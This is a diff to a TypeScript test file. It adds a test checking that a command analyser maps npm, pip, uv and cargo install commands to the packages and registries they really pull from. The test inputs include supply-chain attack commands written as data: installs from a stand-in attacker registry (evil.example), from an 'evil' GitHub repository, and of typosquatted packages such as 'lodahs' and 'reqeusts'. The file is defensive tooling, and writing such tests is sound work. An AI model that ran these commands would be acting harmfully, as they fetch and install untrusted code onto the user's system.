@@ -39,6 +39,48 @@ test('install commands become dependency actions, one per package, versions stri
   }
 });
 
+test('option values are not packages; aliases and sources name what is really installed', () => {
+  const cases: Array<[string, Array<[string, string]>]> = [
+    ['npm install -w app lodash', [['npm', 'lodash']]],
+    ['pnpm add lodash --filter web', [['npm', 'lodash']]],
+    ['npm install lodash@npm:lodahs@4.17.21', [['npm', 'lodahs']]],
+    ['npm install lodash@github:evil/lodash', [['npm', 'github:evil/lodash']]],
+    [
+      'npm install --registry https://evil.example lodash',
+      [
+        ['npm', 'https://evil.example'],
+        ['npm', 'lodash'],
+      ],
+    ],
+    ['uv pip install reqeusts', [['pypi', 'reqeusts']]],
+    ['python3 -m pip install --target vendor numpy', [['pypi', 'numpy']]],
+    [
+      'pip install -i https://evil.example/simple requests',
+      [
+        ['pypi', 'https://evil.example/simple'],
+        ['pypi', 'requests'],
+      ],
+    ],
+    ['pip install git+https://github.com/evil/pkg', [['pypi', 'git+https://github.com/evil/pkg']]],
+    ['cargo add serde --features derive', [['crates', 'serde']]],
+    [
+      'cargo add tokio --registry corp',
+      [
+        ['crates', 'tokio'],
+        ['crates', 'registry:corp'],
+      ],
+    ],
+    ['cargo install ripgrep', [['crates', 'ripgrep']]],
+  ];
+  for (const [command, expected] of cases) {
+    assert.deepEqual(
+      intentsOf(command).map((a) => (a.kind === 'dependency.add' ? [a.ecosystem, a.name] : a.kind)),
+      expected,
+      command,
+    );
+  }
+});
+
 test('git push becomes a push action per destination branch, force spotted however spelled', () => {
   const cases: Array<[string, Array<[string, boolean]>]> = [
     ['git push origin warden/fix', [['warden/fix', false]]],
